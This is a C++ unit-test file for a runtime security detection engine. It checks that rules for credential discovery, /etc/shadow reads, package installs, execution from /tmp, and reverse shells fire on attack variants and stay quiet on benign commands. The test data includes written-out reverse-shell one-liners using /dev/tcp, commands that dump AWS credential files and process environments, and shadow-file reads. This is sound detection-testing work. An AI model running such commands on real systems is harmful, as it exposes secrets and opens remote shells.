// The built-in rules against attack variants from public catalogues (Atomic Red Team,
// Falco's rule targets) and against everyday look-alikes that must stay quiet.
#include <gtest/gtest.h>

#include <algorithm>

#include "sandwatch/core/rules/engine.h"
#include "sandwatch/core/rules/loader.h"
#include "test_util.h"

namespace sandwatch::rules {
namespace {

using testing::AddFile;
using testing::FakeWorld;
using testing::Proc;

using Argv = std::vector<std::string>;

class RuleVariants : public ::testing::Test {
 protected:
  RuleVariants() : engine_(Load(), {}) {
    world_.baseline = {"/usr/bin/cat", "/usr/bin/bash", "/usr/bin/dash", "/usr/bin/python3",
                       "/usr/bin/sh",  "/usr/bin/awk",  "/usr/bin/stat", "/usr/bin/make"};
  }
  static RuleSet Load() {
    auto r = rules::DefaultRules();
    EXPECT_TRUE(r.ok()) << r.error().message;
    return r.ok() ? std::move(r.value()) : RuleSet{};
  }
  const Match* Find(const ProcessInfo& p, std::string_view rule) {
    matches_ = engine_.Evaluate({&p, {}}, world_);
    for (const auto& m : matches_) {
      if (m.rule->name == rule) return &m;
    }
    return nullptr;
  }
  bool Fires(const ProcessInfo& p, std::string_view rule) { return Find(p, rule) != nullptr; }
  // A process started by an interactive shell (the attacker's session).
  static ProcessInfo Cmd(const Argv& argv, const std::string& exe = "") {
    std::string name(Basename(argv[0]));
    return Proc(name.substr(0, 15), argv, exe.empty() ? "/usr/bin/" + name : exe, {"bash"});
  }
  RuleEngine engine_;
  FakeWorld world_;
  std::vector<Match> matches_;
};

TEST_F(RuleVariants, AwsKeyNamesAndEnvironmentReads) {
  for (const Argv& argv : std::vector<Argv>{{"grep", "-ri", "AWS_ACCESS_KEY_ID", "/home"},
                                            {"grep", "-r", "aws_session_token", "/"},
                                            {"grep", "-rli", "SecretAccessKey", "/opt"},
                                            {"rg", "-i", "accesskeyid", "/srv"},
                                            {"find", "/", "-name", "*.s3cfg"},
                                            {"printenv", "AWS_SECRET_ACCESS_KEY"},
                                            {"grep", "-i", "aws"},
                                            {"strings", "/proc/1/environ"},
                                            {"cat", "/proc/self/environ"},
                                            {"awk", "/aws_secret/", "/root/.aws/credentials"},
                                            {"sed", "-n", "p", "/home/u/.aws/config"},
                                            {"base64", "/root/.aws/credentials"},
                                            {"xxd", "/root/.aws/credentials"},
                                            {"perl", "-ne", "print", "/root/.aws/credentials"},
                                            {"sh", "-c", "tr '\\0' '\\n' < /proc/1/environ"},
                                            {"bash", "-c", "echo $AWS_SECRET_ACCESS_KEY"}}) {
    EXPECT_TRUE(Fires(Cmd(argv), "aws_credential_discovery")) << JoinCmdline(argv);
  }
  // Observed opens are full confidence; command-line inference is marked.
  auto reader = Cmd({"python3", "x.py"});
  AddFile(&reader, 3, "/srv/app/.aws/credentials");
  const Match* m = Find(reader, "aws_credential_discovery");
  ASSERT_NE(m, nullptr);
  EXPECT_FALSE(m->low_confidence);
  m = Find(Cmd({"awk", "1", "/root/.aws/credentials"}), "aws_credential_discovery");
  ASSERT_NE(m, nullptr);
  EXPECT_TRUE(m->low_confidence);
}

TEST_F(RuleVariants, NamingASensitiveFileIsNotReadingIt) {
  for (const Argv& argv : std::vector<Argv>{{"stat", "/etc/shadow"},
                                            {"ls", "-l", "/etc/shadow"},
                                            {"test", "-e", "/etc/shadow"},
                                            {"sh", "-c", "test -e /etc/shadow && echo yes"},
                                            {"sh", "-c", "[ -r /etc/gshadow ] || ls -l /etc"},
                                            {"find", "/etc", "-name", "shadow"},
                                            {"stat", "/root/.aws/credentials"},
                                            {"ls", "-l", "/root/.aws/credentials"},
                                            {"test", "-f", "/root/.aws/config"},
                                            {"env"},
                                            {"printenv", "HOME"},
                                            {"grep", "-r", "TODO", "src"}}) {
    auto p = Cmd(argv);
    EXPECT_FALSE(Fires(p, "shadow_file_access")) << JoinCmdline(argv);
    EXPECT_FALSE(Fires(p, "aws_credential_discovery")) << JoinCmdline(argv);
  }
  for (const Argv& argv : std::vector<Argv>{{"sh", "-c", "while read l; do :; done < /etc/shadow"},
                                            {"bash", "-c", "echo \"$(< /etc/shadow)\""},
                                            {"sh", "-c", "cat /etc/passwd /etc/shadow > /tmp/o"},
                                            {"nice", "-n", "5", "cat", "/etc/shadow"},
                                            {"awk", "-F:", "{print $2}", "/etc/shadow"}}) {
    const Match* m = Find(Cmd(argv, argv[0] == "nice" ? "/usr/bin/cat" : ""), "shadow_file_access");
    if (argv[0] == "nice") {
      // Before the exec the wrapper only names the file; after it, cat reads it.
      EXPECT_EQ(m, nullptr);
      auto cat = Proc("cat", {"cat", "/etc/shadow"}, "/usr/bin/cat", {"bash"});
      EXPECT_TRUE(Fires(cat, "shadow_file_access"));
      continue;
    }
    ASSERT_NE(m, nullptr) << JoinCmdline(argv);
    EXPECT_TRUE(m->low_confidence);
  }
}

TEST_F(RuleVariants, PackageQueriesAreNotInstalls) {
  for (const Argv& argv : std::vector<Argv>{{"dpkg", "-l"},
                                            {"dpkg", "-L", "bash"},
                                            {"dpkg", "-s", "bash"},
                                            {"dpkg", "-S", "/bin/ls"},
                                            {"dpkg", "--print-foreign-architectures"},
                                            {"apt", "list", "--installed"},
                                            {"apt-get", "-s", "check"},
                                            {"pip", "list"},
                                            {"pip3", "show", "requests"},
                                            {"python3", "-m", "pip", "list"},
                                            {"bash", "/root/.pyenv/shims/pip", "list"},
                                            {"npm", "ls"},
                                            {"rpm", "-qa"}}) {
    auto p = Cmd(argv);
    if (argv[0] == "bash") p.name = "pip";  // a #! shim: comm is the script's name
    EXPECT_FALSE(Fires(p, "package_manager_execution")) << JoinCmdline(argv);
  }
  for (const Argv& argv : std::vector<Argv>{{"pip", "install", "requests"},
                                            {"pip", "download", "x"},
                                            {"apt-get", "install", "-y", "ncat"},
                                            {"apt", "update"},
                                            {"dpkg", "-i", "x.deb"},
                                            {"npm", "install", "left-pad"}}) {
    EXPECT_TRUE(Fires(Cmd(argv), "package_manager_execution")) << JoinCmdline(argv);
  }
}

TEST_F(RuleVariants, HelperShellsOfBuildToolsAndPackageManagers) {
  auto make_sh = Proc("sh", {"/bin/sh", "-c", "cc -o x x.c"}, "/usr/bin/dash", {"make", "bash"});
  EXPECT_FALSE(Fires(make_sh, "unexpected_shell"));
  auto pip_sh = Proc("sh", {"/bin/sh", "-c", "lsb_release -a"}, "/usr/bin/dash", {"pip", "x"});
  EXPECT_FALSE(Fires(pip_sh, "unexpected_shell"));
  auto shim = Proc("bash", {"bash", "/root/.pyenv/shims/pip", "list"}, "/usr/bin/bash", {"app"});
  EXPECT_FALSE(Fires(shim, "unexpected_shell"));
  // An app (python, java) starting a shell is still reported.
  auto rce = Proc("sh", {"/bin/sh", "-c", "id"}, "/usr/bin/dash", {"python3", "x"});
  EXPECT_TRUE(Fires(rce, "unexpected_shell"));
}

TEST_F(RuleVariants, ExecutionFromWritableOrMemoryPlaces) {
  for (const Argv& argv : std::vector<Argv>{{"bash", "/dev/shm/x"},
                                            {"/bin/sh", "/tmp/x.sh"},
                                            {"python3", "-u", "/var/tmp/p.py"},
                                            {"perl", "/dev/shm/x.pl"},
                                            {"sh", "/proc/self/fd/3"}}) {
    EXPECT_TRUE(Fires(Cmd(argv, "/usr/bin/bash"), "post_start_binary_execution"))
        << JoinCmdline(argv);
  }
  auto relative = Cmd({"sh", "./run.sh"}, "/usr/bin/dash");
  relative.cwd = "/dev/shm";
  EXPECT_TRUE(Fires(relative, "post_start_binary_execution"));
  // A baseline binary copied or hard-linked into /tmp is run from there.
  world_.baseline.insert("/tmp/ls");
  EXPECT_TRUE(Fires(Cmd({"/tmp/ls"}, "/tmp/ls"), "post_start_binary_execution"));
  for (const Argv& argv : std::vector<Argv>{{"sh", "-c", "ls /tmp"},
                                            {"python3", "/usr/lib/python3/dist-packages/x.py"},
                                            {"cat", "/tmp/x.sh"},
                                            {"python3", "-c", "open('/tmp/x')"}}) {
    EXPECT_FALSE(Fires(Cmd(argv, "/usr/bin/" + argv[0]), "post_start_binary_execution"))
        << JoinCmdline(argv);
  }
}

TEST_F(RuleVariants, ReverseShellNeedsNetworkInputOrAnInteractiveShell) {
  world_.networked_pipe = 9;
  // sh -i 2>&1 | nc host port: interactive, output to the network.
  auto interactive = Cmd({"sh", "-i"}, "/usr/bin/dash");
  interactive.fds.push_back(FdInfo{1, FdKind::kPipe, "pipe:[9]", 9});
  EXPECT_TRUE(Fires(interactive, "reverse_shell"));
  // while :; do date; done | nc host port: a writer, not a shell reading the network.
  auto loop = Cmd({"sh", "-c", "while :; do date; sleep 1; done"}, "/usr/bin/dash");
  loop.fds.push_back(FdInfo{1, FdKind::kPipe, "pipe:[9]", 9});
  EXPECT_FALSE(Fires(loop, "reverse_shell"));
  // curl ... | sh, ncat --exec: input from the network.
  auto fed = Cmd({"sh"}, "/usr/bin/dash");
  fed.fds.push_back(FdInfo{0, FdKind::kPipe, "pipe:[9]", 9});
  EXPECT_TRUE(Fires(fed, "reverse_shell"));
  // A short-lived builtin redirect: only the command line remains.
  for (const Argv& argv :
       std::vector<Argv>{{"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"},
                         {"bash", "-c", "sh -i 5<> /dev/tcp/10.0.0.1/9 0<&5 1>&5"},
                         {"bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9; sh <&3 >&3"}}) {
    const Match* m = Find(Cmd(argv, "/usr/bin/bash"), "reverse_shell");
    ASSERT_NE(m, nullptr) << JoinCmdline(argv);
    EXPECT_TRUE(m->low_confidence);
  }
  EXPECT_FALSE(Fires(Cmd({"bash", "-c", "echo ok > /dev/tcp/127.0.0.1/9"}, "/usr/bin/bash"),
                     "reverse_shell"));
}

}  // namespace
}  // namespace sandwatch::rules
